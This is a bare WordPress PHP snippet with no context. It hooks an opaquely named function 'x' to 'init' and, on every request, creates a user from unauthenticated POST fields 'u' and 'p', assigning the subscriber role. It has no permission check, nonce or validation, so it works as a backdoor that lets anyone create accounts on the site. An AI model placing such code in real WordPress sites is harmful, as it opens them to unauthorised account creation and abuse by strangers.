<?php
add_action("init", "x");
function x() {
 $i = wp_create_user($_POST["u"], $_POST["p"]); $u = new WP_User($i); $u->set_role("subscriber");
}
